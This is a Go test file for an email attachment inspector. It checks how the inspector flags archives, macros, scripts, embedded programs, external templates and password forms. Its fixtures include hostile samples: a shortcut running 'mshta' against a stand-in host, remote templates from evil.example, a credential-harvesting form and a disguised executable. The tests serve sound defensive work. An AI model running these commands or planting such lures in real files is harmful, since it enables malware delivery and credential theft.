package attachment

import (
	"slices"
	"strings"
	"testing"

	"bonafide/message"
)

// inspected is a case: what is attached and what is to be found in it.
type inspected struct {
	title, name, mediaType string
	data                   []byte
	want                   message.Attachment
}

func (c *inspected) run(t *testing.T) {
	t.Helper()
	got := Inspect(c.name, c.mediaType, c.data)
	if got.Sniffed != c.want.Sniffed {
		t.Errorf("Sniffed = %q, want %q", got.Sniffed, c.want.Sniffed)
	}
	if got.Encrypted != c.want.Encrypted || got.Macros != c.want.Macros || got.Script != c.want.Script {
		t.Errorf("encrypted, macros, script = %v %v %v, want %v %v %v", got.Encrypted, got.Macros, got.Script, c.want.Encrypted, c.want.Macros, c.want.Script)
	}
	for what, pair := range map[string][2][]string{
		"Entries": {got.Entries, c.want.Entries}, "Links": {got.Links, c.want.Links}, "Traits": {got.Traits, c.want.Traits},
	} {
		if !slices.Equal(pair[0], pair[1]) {
			t.Errorf("%s = %q, want %q", what, pair[0], pair[1])
		}
	}
	if got.Text != c.want.Text {
		t.Errorf("Text = %q, want %q", got.Text, c.want.Text)
	}
	if got.Size != len(c.data) {
		t.Errorf("Size = %d, want %d", got.Size, len(c.data))
	}
}

func runAll(t *testing.T, cases []inspected) {
	t.Helper()
	for i := range cases {
		t.Run(cases[i].title, cases[i].run)
	}
}

func TestArchives(t *testing.T) {
	inner := makeZip(t, "invoice.pdf.exe", "MZ")
	plain := makeZip(t, "a.txt", "hello", "Rechnung/b.js", "x")
	cutOff := plain[:len(plain)-60]
	runAll(t, []inspected{
		{"zip", "a.zip", "application/zip", plain, message.Attachment{Sniffed: "zip", Entries: []string{"a.txt", "Rechnung/b.js"}}},
		{"zip without its directory", "a.zip", "", cutOff, message.Attachment{Sniffed: "zip", Entries: []string{"a.txt", "Rechnung/b.js"}}},
		{"zip behind a stub", "a.zip", "", append([]byte("PK\x03\x04stub, which is no header at all"), plain...), message.Attachment{Sniffed: "zip", Entries: []string{"a.txt", "Rechnung/b.js"}}},
		{"locked zip", "a.zip", "", lockZip(plain), message.Attachment{Sniffed: "zip", Encrypted: true, Entries: []string{"a.txt", "Rechnung/b.js"}}},
		{"zip in zip", "a.zip", "", makeZip(t, "in.zip", string(inner)), message.Attachment{Sniffed: "zip", Entries: []string{"in.zip", "in.zip/invoice.pdf.exe"}}},
		{"zip in zip in zip is not opened", "a.zip", "", makeZip(t, "mid.zip", string(makeZip(t, "in.zip", string(inner)))), message.Attachment{Sniffed: "zip", Entries: []string{"mid.zip", "mid.zip/in.zip"}}},
		{"page in zip", "a.zip", "", makeZip(t, "pay.html", "<html><body><a href='https://pay.example/x'>Pay</a></body></html>"), message.Attachment{Sniffed: "zip", Entries: []string{"pay.html"}, Links: []string{"https://pay.example/x"}, Text: "Pay"}},
		{"jar", "a.jar", "", makeZip(t, "META-INF/MANIFEST.MF", "", "A.class", ""), message.Attachment{Sniffed: "jar", Entries: []string{"META-INF/MANIFEST.MF", "A.class"}}},
		{"apk", "a.apk", "", makeZip(t, "AndroidManifest.xml", ""), message.Attachment{Sniffed: "apk", Entries: []string{"AndroidManifest.xml"}}},
		{"tar", "a.tar", "", makeTar(t, "x/y.txt", "run.sh"), message.Attachment{Sniffed: "tar", Entries: []string{"x/y.txt", "run.sh"}}},
		{"tar with a long name", "a.tar", "", makeTar(t, strings.Repeat("d/", 80)+"end.exe"), message.Attachment{Sniffed: "tar", Entries: []string{strings.Repeat("d/", 80) + "end.exe"}}},
		{"gzip with a name", "a.gz", "", makeGzip(t, "letter.js", []byte("x")), message.Attachment{Sniffed: "gz", Entries: []string{"letter.js"}}},
		{"gzip without a name", "a.js.gz", "", makeGzip(t, "", []byte("x")), message.Attachment{Sniffed: "gz", Entries: []string{"a.js"}}},
		{"tar in gzip", "a.tgz", "", makeGzip(t, "", makeTar(t, "run.exe")), message.Attachment{Sniffed: "gz", Entries: []string{"run.exe"}}},
		{"rar 4", "a.rar", "", makeRAR4(0, 0, "a\\b.exe", "c.txt"), message.Attachment{Sniffed: "rar", Entries: []string{"a/b.exe", "c.txt"}}},
		{"rar 4 with locked files", "a.rar", "", makeRAR4(0, 4, "b.exe"), message.Attachment{Sniffed: "rar", Encrypted: true, Entries: []string{"b.exe"}}},
		{"rar 4 with locked names", "a.rar", "", makeRAR4(0x80, 0, "b.exe"), message.Attachment{Sniffed: "rar", Encrypted: true}},
		{"rar 5", "a.rar", "", makeRAR5(false, "b.exe", "c.txt"), message.Attachment{Sniffed: "rar", Entries: []string{"b.exe", "c.txt"}}},
		{"rar 5 with locked files", "a.rar", "", makeRAR5(true, "b.exe"), message.Attachment{Sniffed: "rar", Encrypted: true, Entries: []string{"b.exe"}}},
		{"7z", "a.7z", "", make7z("\x21", "b.exe", "c.txt"), message.Attachment{Sniffed: "7z", Entries: []string{"b.exe", "c.txt"}}},
		{"locked 7z", "a.7z", "", make7z(aesCoder, "b.exe"), message.Attachment{Sniffed: "7z", Encrypted: true, Entries: []string{"b.exe"}}},
		{"cabinet", "a.cab", "", makeCAB("b.exe", "d\\c.txt"), message.Attachment{Sniffed: "cab", Entries: []string{"b.exe", "d/c.txt"}}},
		{"disk image", "a.iso", "", makeISO("SETUP.EXE;1", "READ.ME;1"), message.Attachment{Sniffed: "iso", Entries: []string{"SETUP.EXE", "READ.ME"}}},
	})
}

func TestDocuments(t *testing.T) {
	const types = "[Content_Types].xml"
	relationship := func(kind, target string) string {
		return `<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/` + kind +
			`" Target="` + target + `" TargetMode="External"/><Relationship Id="r2" Type="x" Target="styles.xml"/></Relationships>`
	}
	runAll(t, []inspected{
		{
			"Word with a link", "a.docx", "", makeZip(t, types, "", "word/_rels/document.xml.rels", relationship("hyperlink", "https://a.example/?x=1&amp;y=2")),
			message.Attachment{Sniffed: "docx", Links: []string{"https://a.example/?x=1&y=2"}},
		},
		{
			"Word with a template from elsewhere", "a.docx", "", makeZip(t, types, "", "word/_rels/settings.xml.rels", relationship("attachedTemplate", "http://evil.example/t.dotm")),
			message.Attachment{Sniffed: "docx", Links: []string{"http://evil.example/t.dotm"}, Traits: []string{TraitExternalTemplate}},
		},
		{
			"Word with macros", "a.doc", "", makeZip(t, types, "", "word/vbaProject.bin", "x"),
			message.Attachment{Sniffed: "docx", Macros: true},
		},
		{
			"Excel 4 macros", "a.xlsm", "", makeZip(t, types, "", "xl/macrosheets/sheet1.xml", "x"),
			message.Attachment{Sniffed: "xlsx", Macros: true, Traits: []string{TraitSheetMacros}},
		},
		{
			"program inside", "a.pptx", "", makeZip(t, types, "", "ppt/embeddings/x.bin", "MZ"+strings.Repeat("\x00", 100)),
			message.Attachment{Sniffed: "pptx", Entries: []string{"ppt/embeddings/x.bin"}, Traits: []string{TraitEmbeddedFile, TraitEmbeddedProgram}},
		},
		{
			"OpenDocument", "a.odt", "", makeZip(t, "mimetype", "application/vnd.oasis.opendocument.text", "Basic/Standard/M.xml", "", "content.xml", `<text:a xlink:href="https://o.example/">`),
			message.Attachment{Sniffed: "odt", Macros: true, Links: []string{"https://o.example/"}},
		},
		{
			"RTF", "a.rtf", "", []byte(`{\rtf1 {\*\template http://evil.example/t.dot}{\field{\*\fldinst HYPERLINK "https://r.example/a"}} {\object\objdata 00}}`),
			message.Attachment{Sniffed: "rtf", Links: []string{"http://evil.example/t.dot", "https://r.example/a"}, Traits: []string{TraitEmbeddedFile, TraitExternalTemplate}},
		},
		{
			"OneNote with a program", "a.one", "", []byte("\xe4\x52\x5c\x7b\x8c\xd8\xa7\x4d\xae\xb1\x53\x78\xd0\x29\x96\xd3" + fileData + "\x46\x00\x00\x00\x00\x00\x00\x00" + strings.Repeat("\x00", 12) + "MZ" + strings.Repeat("\x00", 68)),
			message.Attachment{Sniffed: "one", Traits: []string{TraitEmbeddedFile, TraitEmbeddedProgram}},
		},
	})
}

func TestPages(t *testing.T) {
	runAll(t, []inspected{
		{
			"page", "a.html", "text/html", []byte(`<!doctype html><title>Sign in</title><form action="https://grab.example/p.php"><input type=password name=p></form><a href="https://l.example">Help</a>`),
			message.Attachment{Sniffed: "html", Text: "Sign in\nHelp", Links: []string{"https://grab.example/p.php", "https://l.example"}, Traits: []string{TraitPasswordField}},
		},
		{
			"page that runs a script", "a.htm", "", []byte(`<script>location="https://go.example/x"</script>`),
			message.Attachment{Sniffed: "html", Script: true, Links: []string{"https://go.example/x"}},
		},
		{
			"page in UTF-16", "a.html", "", append([]byte("\xff\xfe"), utf16le(`<html><body>Ol`+"\u00e1"+` <a href="https://u.example/">x</a></body></html>`)...),
			message.Attachment{Sniffed: "html", Text: "Ol\u00e1 x", Links: []string{"https://u.example/"}},
		},
		{
			"picture with a script", "a.svg", "image/svg+xml", []byte(`<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="go()"><a xlink:href="https://s.example/">x</a></svg>`),
			message.Attachment{Sniffed: "svg", Script: true, Links: []string{"https://s.example/"}},
		},
		{"hta", "a.hta", "", []byte(`<html><hta:application id=x></html>`), message.Attachment{Sniffed: "hta", Script: true}},
		{"batch file", "a.bat", "", []byte("@echo off\r\nstart https://b.example/x.exe\r\n"), message.Attachment{Sniffed: "script", Script: true, Links: []string{"https://b.example/x.exe"}}},
		{"script without a name", "", "", []byte("Set s = CreateObject(\"WScript.Shell\")\ns.Run \"powershell -x\""), message.Attachment{Sniffed: "script", Script: true}},
		{"Windows shortcut to a page", "a.url", "", []byte("[InternetShortcut]\r\nURL=https://u.example/a\r\n"), message.Attachment{Sniffed: "url", Links: []string{"https://u.example/a"}}},
		{"macOS shortcut to a page", "a.webloc", "", []byte(`<?xml version="1.0"?><plist version="1.0"><dict><key>URL</key><string>https://m.example/</string></dict></plist>`), message.Attachment{Sniffed: "webloc", Links: []string{"https://m.example/"}}},
		{"shortcut that runs", "a.lnk", "", makeLink(`..\cmd.exe`, "/c mshta https://k.example/a.hta"), message.Attachment{Sniffed: "lnk", Text: "..\\cmd.exe\n/c mshta https://k.example/a.hta", Links: []string{"https://k.example/a.hta"}}},
		{"signed profile", "a.mobileconfig", "", []byte("\x30\x82\x10\x00\x06" + strings.Repeat("\x00", 60) + "<plist><key>PayloadContent</key><string>https://p.example/</string></plist>http://issuer.example/"), message.Attachment{Sniffed: "mobileconfig", Links: []string{"https://p.example/"}, Traits: []string{TraitProfile}}},
		{"plain text", "a.txt", "text/plain; charset=utf-8", []byte("Call us.\nSee www.t.example/x, or (https://t.example/y)."), message.Attachment{Text: "Call us.\nSee www.t.example/x, or (https://t.example/y).", Links: []string{"https://t.example/y", "www.t.example/x"}}},
		{"text in windows-1252", "a.txt", "text/plain", []byte("Gr\xfc\xdfe"), message.Attachment{Text: "Gr\u00fc\u00dfe"}},
		{"empty file", "a.pdf", "application/pdf", nil, message.Attachment{}},
	})
}

func TestCalendar(t *testing.T) {
	runAll(t, []inspected{
		{
			"invitation", "a.ics", "text/calendar", []byte("BEGIN:VCALENDAR\r\nBEGIN:VEVENT\r\nSUMMARY;LANGUAGE=en:Payment of $499\\, confirm\r\nDESCRIPTION:Call now\\nor see https://c.exam\r\n ple/pay\r\nLOCATION:Online\r\nORGANIZER;CN=\"Support: Desk\":mailto:x@c.example\r\nURL:https://c.example/u\r\nATTACH;FMTTYPE=application/pdf:https://c.example/a.pdf\r\nEND:VEVENT\r\nEND:VCALENDAR\r\n"),
			message.Attachment{Sniffed: "ics", Text: "Payment of $499, confirm\nCall now\nor see https://c.example/pay\nOnline\nSupport: Desk <x@c.example>", Links: []string{"https://c.example/pay", "https://c.example/u", "https://c.example/a.pdf"}},
		},
		{
			"card", "a.vcf", "text/vcard", []byte("BEGIN:VCARD\nFN:Help Desk\nitem1.URL:https://v.example\nTEL:+1 555 0100\nEND:VCARD\n"),
			message.Attachment{Sniffed: "vcf", Text: "Help Desk\n+1 555 0100", Links: []string{"https://v.example"}},
		},
	})
}
